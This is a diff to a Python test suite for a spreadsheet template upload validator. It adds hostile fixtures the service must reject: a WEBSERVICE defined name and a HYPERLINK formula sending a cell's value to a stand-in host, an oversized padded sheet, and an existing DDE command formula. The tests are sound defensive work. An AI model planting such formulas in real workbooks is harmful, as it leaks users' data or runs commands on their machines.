@@ -173,6 +173,17 @@ def _unnumbered(parts: dict[str, bytes]) -> None:
     parts["xl/workbook.xml"] = re.sub(rb'sheetId="[0-9]+"', b'sheetId=""', parts["xl/workbook.xml"])
 
 
+def _named(parts: dict[str, bytes]) -> None:
+    name = b"</sheets><definedNames><definedName name='x'>WEBSERVICE(\"http://x?\"&amp;C6)</definedName></definedNames>"
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</sheets>", name)
+
+
+def _heavy(parts: dict[str, bytes]) -> None:
+    for number in (1, 2):
+        path = f"xl/worksheets/sheet{number}.xml"
+        parts[path] = parts[path].replace(b"</worksheet>", b"<extLst>" + b" " * 3_500_000 + b"</extLst></worksheet>")
+
+
 def _macro(parts: dict[str, bytes]) -> None:
     parts["xl/vbaProject.bin"] = b"macro"
 
@@ -185,6 +196,8 @@ def _macro(parts: dict[str, bytes]) -> None:
         (_typed, "повреждена"),
         (_linked, "связей с другими файлами"),
         (_without_sheets, "нет листа"),
+        (_named, "другим файлам"),
+        (_heavy, "слишком велика"),
         (_cut_short, "повреждена"),
         (_deep, "повреждена"),
         (_unnumbered, "заполнить её не удалось"),
@@ -213,6 +226,7 @@ async def test_a_blank_must_have_a_place_for_every_cell(reporting: Reporting) ->
         (blank, None, "Укажите место"),
         (made(formula="=[1]Лист1!A1"), ANCHORS, "другим файлам"),
         (made(formula="=cmd|'/c calc'!A1"), ANCHORS, "другим файлам"),
+        (made(formula='=HYPERLINK("http://x?"&C6)'), ANCHORS, "другим файлам"),
     ):
         answer = await supply(reporting, content, anchors)
         assert (answer.status_code, answer.json()["code"]) == (422, "blank.unfit"), (words, answer.text)
